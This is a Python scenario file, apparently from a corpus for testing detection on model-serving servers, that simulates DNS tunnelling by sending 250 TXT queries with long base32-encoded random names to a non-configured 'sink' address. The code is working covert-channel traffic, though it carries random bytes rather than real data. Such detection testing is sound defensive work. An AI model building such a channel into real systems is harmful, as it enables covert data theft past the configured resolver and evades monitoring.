"""
id: S22
name: fast-dns-tunnel
class: quiet
phase: serve
trigger: request
evidence: [dns, network]
techniques: [T1048.003, T1572, T1071.004, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 30
what: >
  Asks 250 questions for TXT records with names of 180 bytes in 20 seconds, not from the resolver that is set but from
  another address; on a connected or an unconnected socket, as the seed decides.
"""

import base64
import contextlib
import socket

from corpus import dnspacket

QUESTIONS = 250
SECONDS = 20
NAME_BYTES = 180
LABEL_BYTES = 56


def payload(world):
    server = (world.sink, 53)
    domain = world.host()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        connected = world.random.random() < 0.5
        if connected:
            peer.connect(server)
        for number in range(QUESTIONS):
            packet = dnspacket.question(number, name(world, domain), dnspacket.TXT)
            # Nobody may listen there, which a connected socket is told.
            with contextlib.suppress(ConnectionRefusedError):
                if connected:
                    peer.send(packet)
                else:
                    peer.sendto(packet, server)
            world.sleep(SECONDS / QUESTIONS)


def name(world, domain):
    data = base64.b32encode(world.random.randbytes(NAME_BYTES)).decode().lower()[: NAME_BYTES - len(domain) - 4]
    return ".".join([*(data[at : at + LABEL_BYTES] for at in range(0, len(data), LABEL_BYTES)), domain])
